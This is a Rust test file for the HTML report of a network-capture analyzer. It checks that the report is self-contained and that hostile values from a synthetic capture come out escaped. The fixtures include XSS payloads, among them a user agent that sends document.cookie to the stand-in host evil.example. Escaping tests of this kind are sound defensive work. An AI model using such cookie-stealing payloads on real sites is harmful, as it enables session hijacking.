//! The `html` output through the real binary: one self-contained file (nothing loaded from outside),
//! with the diagrams inline and the hosts, flows, findings and plugins tables; and text from a hostile
//! capture (a `<script>` SNI, user agent and Host header) shown escaped, never as markup.

use crate::support::*;
use pcapgen::{Capture, Endpoint, HttpGet, TlsHello};

const SCRIPT_SNI: &str = "<script>alert(1)</script>";
const UA: &str = "<script>document.location='//evil.example/'+document.cookie</script>";

/// A capture whose names and headers are markup.
fn hostile(path: &std::path::Path) {
    let mut cap = Capture::new(1_710_234_000);
    let client = Endpoint::new([0x3c, 0x22, 0xfb, 1, 2, 3], [192, 168, 1, 10], 50000);
    let server = Endpoint::new([0x00, 0x14, 0x6c, 1, 2, 3], [203, 0, 113, 5], 443);
    cap.tls_session(client, server, &TlsHello::browser(SCRIPT_SNI), &[])
        .unwrap();
    let mut get = HttpGet::new(
        "<img src=x onerror=alert(2)>",
        "/search?q=\"><svg/onload=alert(3)>",
    );
    get.user_agent = UA;
    cap.http_get(
        client.with_port(50001),
        Endpoint::new([0x00, 0x14, 0x6c, 1, 2, 3], [203, 0, 113, 6], 80),
        &get,
    )
    .unwrap();
    cap.write_file(path).unwrap();
}

fn assert_self_contained(html: &str) {
    assert!(html.starts_with("<!DOCTYPE html>"));
    for external in [
        "src=\"http",
        "src='http",
        "<link",
        "href=\"http",
        "href=\"//",
        "url(http",
        "url(//",
        "@import",
        "<iframe",
        "<object",
        "<embed",
    ] {
        assert!(!html.contains(external), "report.html has `{external}`");
    }
    assert!(html.contains("Content-Security-Policy"));
    assert_eq!(
        html.matches("<script").count(),
        1,
        "only the page's own script"
    );
}

#[test]
fn report_html_is_one_self_contained_file_with_the_diagram_and_the_tables_and_hostile_names_escaped()
 {
    let dir = tempfile::tempdir().unwrap();
    let capture = dir.path().join("hostile.pcap");
    hostile(&capture);
    let pipeline = "[[analyzer]]\nplugin = \"web\"\n[[analyzer]]\nplugin = \"suspicious\"\n[[output]]\nplugin = \"html\"\n[[output]]\nplugin = \"json\"\n";
    let run = run_pipeline(dir.path(), pipeline, &capture);
    assert_eq!(run.code, 0, "{}", run.all_output());
    let report = run.report();
    // The hostile values did reach the analysis...
    assert_eq!(
        finding_values(&report, "web.https", "tls.sni"),
        [SCRIPT_SNI.to_string()]
    );
    assert_eq!(
        finding_values(&report, "web.http", "http.user-agent"),
        [UA.to_string()]
    );
    let mut files: Vec<String> = std::fs::read_dir(&run.out_dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .filter(|name| !name.starts_with('.'))
        .collect();
    files.sort();
    assert_eq!(
        files,
        ["report.html", "report.json"],
        "one file, no assets beside it (the hidden file is the host's ownership mark)"
    );
    let html = std::fs::read_to_string(run.out_dir.join("report.html")).unwrap();
    assert_self_contained(&html);
    // ...and the page shows them as text.
    assert!(!html.contains(SCRIPT_SNI));
    assert!(!html.contains(UA));
    assert!(!html.contains("<img"));
    assert!(!html.contains("<svg/onload"));
    assert!(
        html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
        "the SNI, escaped"
    );
    assert!(
        html.contains("&lt;script&gt;document.location="),
        "the user agent, escaped"
    );
    // The diagram and the tables.
    assert!(html.contains("<svg xmlns=\"http://www.w3.org/2000/svg\""));
    assert!(html.contains("class=\"node\"") && html.contains("class=\"edge\""));
    for table in [
        "hosts-table",
        "flows-table",
        "findings-table",
        "plugins-table",
    ] {
        assert!(
            html.contains(&format!("<table class=\"sortable\" id=\"{table}\"")),
            "{table}"
        );
    }
    assert!(html.contains("203.0.113.5") && html.contains("192.168.1.10"));
    assert!(
        html.contains("<th scope=\"col\">"),
        "header cells for screen readers"
    );
    assert!(
        html.contains("aria-labelledby="),
        "the diagrams are labelled"
    );
}

#[test]
fn the_tor_example_report_offers_every_view_of_the_diagram() {
    let dir = tempfile::tempdir().unwrap();
    let pipeline = crate::graph::pipeline(
        "views = [\"all\"]",
        "[[output]]\nplugin = \"html\"\nconfig = { max_flows = 20, title = \"Case 42\" }\n",
    );
    let run = run_pipeline(
        dir.path(),
        &pipeline,
        &testdata("tor_browser_pcapxray_example.pcap"),
    );
    assert_eq!(run.code, 0, "{}", run.all_output());
    let html = std::fs::read_to_string(run.out_dir.join("report.html")).unwrap();
    assert_self_contained(&html);
    assert!(html.contains("<title>Case 42</title>"));
    for view in ["all", "web", "https", "dns", "tor", "suspicious"] {
        assert!(
            html.contains(&format!("<option value=\"{view}\">")),
            "view {view} in the selector"
        );
        assert!(
            html.contains(&format!("data-view=\"{view}\"")),
            "view {view} drawn"
        );
    }
    // Each inline SVG has its own ids.
    assert!(html.contains("id=\"v0-title\"") && html.contains("id=\"v1-title\""));
    assert!(html.contains("158.69.204.36"));
    let rows = html.matches("<tr><td class=\"num\" data-sort=\"").count();
    assert_eq!(rows, 20, "max_flows bounds the flows table");
    assert!(html.contains("Only the first 20 of"));
}

/// The text of one table of report.html, a row per line, cells separated by ` | `.
pub(crate) fn table_text(html: &str, id: &str) -> String {
    let start = html
        .find(&format!("id=\"{id}\""))
        .expect("table in the page");
    let end = start + html[start..].find("</table>").expect("table closed");
    let mut out = String::new();
    for row in html[start..end].split("<tr").skip(1) {
        let cells: Vec<String> = row
            .split("<t")
            .skip(1)
            .filter_map(|cell| cell.split_once('>').map(|(_, rest)| rest))
            .map(|rest| {
                let mut text = String::new();
                let mut in_tag = false;
                for c in rest.chars() {
                    match c {
                        '<' => in_tag = true,
                        '>' => in_tag = false,
                        c if !in_tag => text.push(c),
                        _ => {}
                    }
                }
                text.trim().to_string()
            })
            .filter(|t| !t.is_empty())
            .collect();
        if !cells.is_empty() {
            out.push_str(&cells.join(" | "));
            out.push('\n');
        }
    }
    out
}

/// Golden test of the html report: the packet-fate, hosts and findings tables of the demo capture (tshark:
/// 306 frames match `ip or ipv6`, 7 `arp`), as text, against
/// the reviewed copy in tests/golden/html-demo-tables.txt (`PCAPXRAY_BLESS=1` rewrites it).
#[test]
fn the_demo_report_tables_match_their_reviewed_copy() {
    let dir = tempfile::tempdir().unwrap();
    let pipeline = "[[analyzer]]\nplugin = \"web\"\n[[analyzer]]\nplugin = \"dns\"\n[[analyzer]]\nplugin = \"devices\"\n\
                    [[output]]\nplugin = \"json\"\n[[output]]\nplugin = \"html\"\n";
    let run = run_pipeline(dir.path(), pipeline, &repo().join("config/demo.pcap"));
    assert_eq!(run.code, 0, "{}", run.all_output());
    let html = std::fs::read_to_string(run.out_dir.join("report.html")).unwrap();
    let got = format!(
        "# packet-fates\n{}\n# hosts-table\n{}\n# findings-table\n{}",
        table_text(&html, "packet-fates"),
        table_text(&html, "hosts-table"),
        table_text(&html, "findings-table")
    );
    let golden = repo().join("tests/golden/html-demo-tables.txt");
    if std::env::var_os("PCAPXRAY_BLESS").is_some() {
        std::fs::write(&golden, &got).unwrap();
        return;
    }
    let expected = std::fs::read_to_string(&golden).unwrap_or_default();
    assert_eq!(
        got,
        expected,
        "report.html tables differ from {}",
        golden.display()
    );
}
